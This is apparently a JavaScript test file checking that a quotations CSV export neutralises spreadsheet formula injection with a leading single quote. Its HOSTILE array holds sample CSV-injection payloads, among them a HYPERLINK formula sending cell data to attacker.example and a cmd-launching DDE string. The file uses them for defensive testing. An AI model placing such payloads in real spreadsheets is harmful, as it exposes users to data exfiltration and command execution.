// The quotations CSV: article text that a spreadsheet would read as a
// formula (a field starting with =, +, -, @, tab or carriage return; OWASP's
// "CSV Injection") is written as text, with a leading single quote, inside
// the usual RFC 4180 quoting.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { csvField, quotesCsv } from '../../www/export.js';
import { parseCsv } from '../browser/helpers.mjs';

const HOSTILE = [
  '=HYPERLINK("http://attacker.example/?x="&A1,"click")',
  '+1+cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
];

test('a field that would start a formula gets a leading single quote', () => {
  for (const s of HOSTILE) {
    const field = csvField(s);
    const [[cell]] = parseCsv(field);
    assert.equal(cell, `'${s}`, `${JSON.stringify(s)} is neutralised`);
  }
  // Quoting still follows RFC 4180 around the neutralised text.
  assert.equal(csvField('=A1,"b"'), `"'=A1,""b"""`);
  // Text that starts any other way is left as it is.
  for (const s of ['قال إن "الاتفاق صامد"', 'a = b', "'quoted'", '1-2', ' =not first', '']) {
    assert.equal(parseCsv(csvField(s))[0]?.[0] ?? '', s);
  }
});

test('hostile quotation texts and speaker names are neutralised in the CSV', () => {
  const quotes = HOSTILE.map((text, i) => ({ start: 0, end: 0, text, kind: 'direct', speaker: { name: HOSTILE[(i + 1) % HOSTILE.length], start: 0, end: 0, cluster: null } }));
  const csv = quotesCsv([{ name: '=article.txt', analysis: { entities: [], clusters: [], quotes } }]);
  const rows = parseCsv(csv);
  assert.deepEqual(rows[0], ['article', 'speaker', 'kind', 'quotation']);
  assert.equal(rows.length, HOSTILE.length + 1);
  rows.slice(1).forEach((row, i) => {
    assert.deepEqual(row, ["'=article.txt", `'${HOSTILE[(i + 1) % HOSTILE.length]}`, 'direct', `'${HOSTILE[i]}`]);
  });
  // No cell of the file starts a formula.
  for (const row of rows) for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r]/);
});
